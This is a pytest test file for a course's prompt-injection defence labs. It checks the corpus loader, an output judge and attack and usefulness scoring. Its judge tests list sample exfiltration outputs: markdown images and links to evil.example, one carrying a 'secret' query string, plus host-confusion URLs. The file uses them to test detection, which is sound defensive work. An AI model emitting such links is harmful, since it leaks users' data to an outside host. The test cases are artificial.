"""Defence labs' engine: corpora validation, judging, scoring, the manifest's lab block."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from tutor.course.loader import load_course
from tutor.errors import ContentError
from tutor.grader.result import LabScore
from tutor.labs import judge
from tutor.labs.corpus import load_corpus
from tutor.labs.judge import Outcome, ToolCall
from tutor.labs.score import score_attacks, score_ordinary

GOOD = """\
format_version: 1
attacks:
  - id: a1
    shown: true
    harm: exfiltration
    aim: "an image to elsewhere"
    input: {q: "x"}
    harmed_if: {links_outside: [example.com]}
  - id: a2
    harm: hijack
    aim: "a fake announcement"
    input: {q: "y"}
    harmed_if: {says: ["suspended"]}
ordinary:
  - id: o1
    shown: true
    aim: "a plain question"
    input: {q: "z"}
    useful_if: {says: ["30 days"]}
"""


def write(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "lab.yaml"
    path.write_text(textwrap.dedent(text), encoding="utf-8")
    return path


# -- corpora --------------------------------------------------------------------------

def test_a_good_corpus_loads_with_its_sample(tmp_path):
    corpus = load_corpus(write(tmp_path, GOOD))
    assert [c.id for c in corpus.attacks] == ["a1", "a2"]
    assert [c.id for c in corpus.sample()] == ["a1", "o1"]
    assert corpus.attacks[1].shown is False and corpus.attacks[1].harm == "hijack"


@pytest.mark.parametrize(("change", "problem", "line"), [
    (("harmed_if: {says: [\"suspended\"]}", "harmed_if: {sayz: [x]}"),
     "unknown condition 'sayz'", 13),
    (("shown: true\n    harm: exfiltration", "shown: true\n    harm: \"\""),
     "needs 'harm'", 5),
    (("- id: a2", "- id: a1"), "case id 'a1' is used twice", 9),
    (("  - id: a2\n", "  - id: a2\n    shown: true\n"), "none is held out", 2),
    (("input: {q: \"z\"}", "input: [z]"), "needs 'input'", 18),
    (("format_version: 1", "format_version: 2"), "format_version must be 1", 1),
    (("links_outside: [example.com]", "links_outside: []"),
     "'harmed_if.links_outside' must be a non-empty list", 8),
])
def test_corpus_problems_name_the_file_and_line(tmp_path, change, problem, line):
    old, new = change
    assert old in GOOD
    path = write(tmp_path, GOOD.replace(old, new, 1))
    with pytest.raises(ContentError) as caught:
        load_corpus(path)
    found = [p for p in caught.value.problems if problem in str(p)]
    assert found, [str(p) for p in caught.value.problems]
    assert found[0].file == path and found[0].line == line


def test_broken_yaml_and_a_missing_file_are_content_errors(tmp_path):
    with pytest.raises(ContentError, match="cannot read"):
        load_corpus(tmp_path / "none.yaml")
    with pytest.raises(ContentError):
        load_corpus(write(tmp_path, "attacks: [\n"))


def test_an_edited_corpus_is_read_again(tmp_path):
    path = write(tmp_path, GOOD)
    assert load_corpus(path).ordinary[0].aim == "a plain question"
    path.write_text(GOOD.replace("a plain question", "another question, longer"), "utf-8")
    assert load_corpus(path).ordinary[0].aim == "another question, longer"


# -- judging --------------------------------------------------------------------------

@pytest.mark.parametrize("text", [
    "![x](https://evil.example/p.png?q=secret)",
    "[reset](https://example.com.evil.example/r)",
    "![x](https://example.com@evil.example/x)",
    '<img src="https://evil.example/a.gif">',
    "Visit https://evil.example/login now",
    "<https://evil.example/auto>",
    "![x](//evil.example/p.png)",
])
def test_links_outside_finds_every_way_out(text):
    assert judge.harmed(Outcome(text), {"links_outside": ["example.com"]}), text


@pytest.mark.parametrize("text", [
    "See [help](https://help.example.com/reset) and ![c](https://cdn.example.com/c.png).",
    "Go to [returns](/returns).",
    "No links at all.",
    "https://EXAMPLE.com./x",
])
def test_links_to_the_allowed_hosts_are_no_harm(text):
    assert not judge.harmed(Outcome(text), {"links_outside": ["example.com"]}), text


def test_says_compares_as_a_reader_sees_it():
    assert judge.harmed(Outcome("Returns are\u200b SUSPENDED  now"), {"says": ["suspended now"]})
    assert judge.useful(Outcome("within 30\u00a0DAYS"), {"says": ["30 days"]})
    assert not judge.useful(Outcome("within 30 days"), {"says": ["30 days", "refund"]})


def test_links_to_and_calls():
    outcome = Outcome("[r](https://www.example.com/returns)",
                      (ToolCall("send_email", {"to": "a@b.c", "body": "hi"}),))
    assert judge.useful(outcome, {"links_to": ["https://www.example.com/returns"]})
    assert judge.harmed(outcome, {"calls": [{"tool": "send_email", "with": {"to": "a@b.c"}}]})
    assert not judge.harmed(outcome, {"calls": [{"tool": "send_email",
                                                 "with": {"to": "x@y.z"}}]})


# -- scoring --------------------------------------------------------------------------

def test_scores_name_shown_misses_and_count_held_out_ones_by_kind(tmp_path):
    corpus = load_corpus(write(tmp_path, GOOD))
    outputs = {"x": "![x](https://evil.example/p)", "y": "Returns are suspended."}
    score = score_attacks(corpus.attacks, lambda case: Outcome(outputs[case.input["q"]]), 0.5)
    assert (score.got, score.total, score.passed) == (0, 2, False)
    message = score.message()
    assert message.startswith("Attacks blocked: 0 of 2 (0%; the lab needs 50%).")
    assert "a1 (an image to elsewhere) got through" in message
    assert "evil.example" in message
    assert "1 held-out attacks too (1 hijack)" in message
    assert "suspended" not in message, "a held-out case's output is never shown"
    assert score.as_data()["misses"] == ["a1", "held out (hijack)"]


def test_a_defence_that_raises_fails_closed_on_attacks_but_serves_nobody(tmp_path):
    corpus = load_corpus(write(tmp_path, GOOD))

    def broken(case):
        raise ValueError("boom")

    assert score_attacks(corpus.attacks, broken, 1.0).passed
    useful = score_ordinary(corpus.ordinary, broken, 1.0)
    assert not useful.passed and "ValueError: boom" in useful.message()


def test_thresholds_round_up_to_whole_cases(tmp_path):
    corpus = load_corpus(write(tmp_path, GOOD))
    outputs = {"x": "fine", "y": "Returns are suspended."}
    assert score_attacks(corpus.attacks, lambda c: Outcome(outputs[c.input["q"]]), 0.5).passed
    assert not score_attacks(corpus.attacks, lambda c: Outcome(outputs[c.input["q"]]),
                             0.51).passed


@pytest.mark.parametrize("data", [
    None, [], {"label": "x"}, {"label": "x", "got": 3, "total": 2, "needed": 0.9},
    {"label": "x", "got": True, "total": 2, "needed": 0.9},
    {"label": "x", "got": 1, "total": 2, "needed": "0.9"},
    {"label": "x", "got": 1, "total": 2, "needed": 0.9, "misses": [1]},
])
def test_a_malformed_score_from_the_child_is_dropped(data):
    assert LabScore.from_event(data) is None


def test_a_score_from_the_child_is_read_and_capped():
    score = LabScore.from_event({"label": "attacks blocked", "got": 15, "total": 16,
                                 "needed": 0.9, "misses": ["x" * 500]})
    assert score is not None and score.headline() == (
        "Attacks blocked: 15 of 16 (94%; needs 90%)")
    assert len(score.misses[0]) == 80


# -- the manifest's lab block ---------------------------------------------------------

def test_the_lab_block_is_read_and_checked(course_dir):
    manifest = course_dir / "course.yaml"
    text = manifest.read_text()
    assert "      - id: adder\n" in text
    manifest.write_text(text.replace("      - id: adder\n",
                                     "      - id: adder\n        lab: {blocked: 0.8, useful: 1}\n"))
    lab = load_course(course_dir).exercise("adder").lab
    assert lab is not None and (lab.blocked, lab.useful) == (0.8, 1.0)
    manifest.write_text(text.replace("      - id: adder\n",
                                     "      - id: adder\n        lab: {blocked: 2, usefull: 1}\n"))
    with pytest.raises(ContentError) as caught:
        load_course(course_dir)
    said = "\n".join(str(p) for p in caught.value.problems)
    assert "'blocked' of the lab of exercise 'adder' must be a share" in said
    assert "unknown key 'usefull'" in said and "did you mean 'useful'" in said
